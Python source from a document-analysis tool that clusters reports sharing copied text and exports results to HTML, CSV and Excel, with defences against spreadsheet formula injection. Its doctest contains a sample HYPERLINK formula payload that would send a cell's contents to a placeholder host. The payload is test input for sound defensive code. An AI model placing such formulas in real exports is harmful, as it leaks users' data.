    def clusters(self) -> tuple[list[Cluster], int, dict[str, str]]:
        """Connected groups of documents linked by shared text, as the overview lists them: the
        first ``MAX_CLUSTERS``, largest first (then by the document of their first edge), each
        with its ``MAX_PAIRS`` strongest pairs; how many groups there are; the page of each batch
        document they name. Only the union-find of the names is held in memory, never the edges."""
        linked = UnionFind()
        for document, source in self.db.execute("SELECT document, source FROM edges ORDER BY seq"):
            linked.union(document, source)
        with self.db:
            self.db.execute("DELETE FROM nodes")
            self.db.executemany("INSERT INTO nodes VALUES (?, ?)", ((x, linked.find(x)) for x in list(linked.parent)))
        del linked
        total = self.db.execute("SELECT COUNT(DISTINCT root) FROM nodes").fetchone()[0]
        largest = self.db.execute(
            "SELECT s.root, s.members FROM (SELECT root, COUNT(*) AS members FROM nodes GROUP BY root) s"
            " JOIN (SELECT n.root, MIN(e.seq) AS seq FROM edges e JOIN nodes n ON n.name = e.document"
            "       GROUP BY n.root) f ON f.root = s.root"
            " JOIN edges first ON first.seq = f.seq ORDER BY s.members DESC, first.document LIMIT ?",
            (MAX_CLUSTERS,)).fetchall()
        groups, names = [], set()
        in_group = "FROM edges e JOIN nodes n ON n.name = e.document WHERE n.root = ? GROUP BY e.a, e.b"
        for root, members in largest:
            pairs = self.db.execute(f"SELECT e.a, e.b {in_group} ORDER BY MAX(e.ratio) DESC, MIN(e.seq) LIMIT ?",
                                    (root, MAX_PAIRS)).fetchall()
            count = self.db.execute(f"SELECT COUNT(*) FROM (SELECT 1 {in_group})", (root,)).fetchone()[0]
            shown = [(x, y, self._sides(x, y)) for x, y in pairs]
            names.update(name for x, y, _ in shown for name in (x, y))
            groups.append(Cluster(members, shown, count - len(shown)))
        pages = {}
        for name in names:
            found = self.db.execute("SELECT page FROM rows WHERE ident = ? AND page IS NOT NULL", (name,)).fetchone()
            if found:
                pages[name] = found[0]
        return groups, total, pages

    def _sides(self, x: str, y: str) -> dict[str, dict]:
        """The edges between ``x`` and ``y`` (x < y), by the document that lists the other as a source."""
        query = f"SELECT {', '.join(EDGE_FIELDS)} FROM edges WHERE a = ? AND b = ? ORDER BY seq"
        return {ed[0]: dict(zip(EDGE_FIELDS, ed)) for ed in self.db.execute(query, (x, y))}


def read_results(path: Path, entries: list[Entry], db: Path) -> ResultTable:
    """The batch's :class:`ResultTable` (in the SQLite file ``db``) from ``results.jsonl``, in one
    pass: a row per document and a copy edge per document and source sharing at least
    ``CLUSTER_MIN`` of it."""
    table = ResultTable(db)
    with open(path, encoding="utf-8") as fh, table.db:
        for entry, line in zip(entries, fh):
            d = json.loads(line)
            row = summarise(d)
            row["ident"] = entry.ident
            row["page"] = None if row["error"] else "reports/" + href(entry.page)
            table.add(row, [{"document": entry.ident, "source": s["source"], "ratio": s["ratio"],
                             "source_ratio": s.get("source_ratio"), "relation": relation(s),
                             "likely_source": s.get("likely_source")}
                            for s in (d.get("copy") or {}).get("sources", []) if s["ratio"] >= CLUSTER_MIN])
    return table


def write_overview(table: ResultTable, meta: dict, path: Path) -> None:
    """``index.html`` (:func:`analyzer.html.overview_page`) written piece by piece."""
    groups, total, pages = table.clusters()
    with open(path, "w", encoding="utf-8") as fh:
        fh.writelines(overview_page(table, (groups, total), pages, meta))


SECTION_LABEL = {"problem": "问题部分", "cause": "原因部分", "measure": "措施部分"}
RELATION_WORD = {"shared": "雷同", "copied_from": "抄袭来源", "self_copy": "照搬往年材料"}


def columns(rows) -> tuple[list[str], dict[str, str]]:
    """Header of the flat table (CSV/XLSX) and its coverage categories (id -> label), in one pass
    over ``rows``; :func:`cells` gives a row's cells (None where a stage did not run)."""
    cats: dict[str, str] = {}
    for r in rows:
        cats.update(r["labels"])
    header = ["排名 rank", "文件 name", "路径 file", "字数 chars", "类型 kind",
              *(f"{label} {cid}" for cid, label in cats.items()),
              "未覆盖 missing", "总结化 summary_like", "复制比(去除引用和套话) copy", "全文复制比 total_copy",
              "重复字数 copied_chars", "单篇最大复制比 top_source_ratio", "最大来源 top_source",
              "来源关系 relation", "可能来源 likely_source",
              *(f"{label}复制比 copy_{k}" for k, label in SECTION_LABEL.items()),
              "深度 depth", *(f"{label} {k}" for k, label in CRITERION_LABEL.items()),
              "三个代替 substitutions", "真批评占比 share_genuine", "缺要素条目 items_missing_fields",
              "意见回应率 answered_ratio", "提示 flags", "错误 error"]
    return header, cats


def cells(r: dict, cats: dict[str, str]) -> list:
    """The cells of one row, in the order of :func:`columns`."""
    def joined(items):
        return None if items is None else "；".join(items)

    err = r["error"]
    rel = r["top_relation"]
    return [r["rank"], r["name"], r["file"], r["chars"], r["kind"],
            *((r["scores"] or {}).get(cid) for cid in cats), joined(r["missing"]),
            r["summary_like"], r["copy"], r["total_copy"], r["copied_chars"], r["top_source_ratio"],
            r["top_source"], f"{RELATION_WORD[rel]} {rel}" if rel else None, r["likely_source"],
            *((r["copy_sections"] or {}).get(k) for k in SECTION_LABEL), r["depth"],
            *((r["criteria"] or {}).get(k) for k in CRITERION_LABEL), joined(r["substitutions"]),
            r["share_genuine"], r["items_missing_fields"], r["answered_ratio"],
            joined(r["flags"]), f'{err["code"]}: {err["message"]}' if err else None]


# a spreadsheet runs a cell starting with one of these as a formula (OWASP "CSV injection");
# the full-width forms are included because an East Asian Excel may convert them
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value):
    r"""A cell value no spreadsheet will run: text starting with a formula character gets a
    leading apostrophe (numbers and None are left alone).

    >>> safe_cell('=HYPERLINK("http://x/?q="&B2)'), safe_cell("-3"), safe_cell(-3), safe_cell("对照")
    ('\'=HYPERLINK("http://x/?q="&B2)', "'-3", -3, '对照')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(rows, path: Path) -> None:
    """The table of ``rows`` (a list, or a :class:`ResultTable`) as CSV in UTF-8 with a BOM, so
    Excel reads the Chinese correctly; every text cell passes :func:`safe_cell`."""
    header, cats = columns(rows)
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow([safe_cell(v) for v in header])
        writer.writerows(["" if v is None else safe_cell(v) for v in cells(r, cats)] for r in rows)


def write_xlsx(rows, path: Path) -> None:
    """The table as an Excel workbook: frozen header, filters, percentages, links to the pages.
    Every text cell passes :func:`safe_cell` and is stored as a string, never a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    header, cats = columns(rows)
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("结果 results")
    ws.freeze_panes = "C2"
    for i, title in enumerate(header, 1):
        ws.column_dimensions[get_column_letter(i)].width = 30 if i in (2, 3) else max(10, min(len(title) + 2, 24))
    ws.auto_filter.ref = f"A1:{get_column_letter(len(header))}{len(rows) + 1}"
    head = []
    for title in header:
        head.append(_text_cell(WriteOnlyCell, ws, title))
        head[-1].font = Font(bold=True)
    ws.append(head)
    percent = {i for i, h in enumerate(header)
               if h.split()[-1] in ("summary_like", "copy", "total_copy", "top_source_ratio", "share_genuine",
                                    "answered_ratio")
               or h.split()[-1].startswith("copy_")}
    for r in rows:
        out = []
        for i, value in enumerate(cells(r, cats)):
            cell = _text_cell(WriteOnlyCell, ws, value)
            if i in percent:
                cell.number_format = "0%"
            if i == 1 and r["page"]:
                cell.hyperlink = r["page"]
            out.append(cell)
        ws.append(out)
    wb.save(path)


def _text_cell(cell_type, ws, value):
    """An openpyxl cell holding ``safe_cell(value)``; text is typed as a string (``s``)."""
    cell = cell_type(ws, value=safe_cell(value))
    if isinstance(value, str):
        cell.data_type = "s"
    return cell
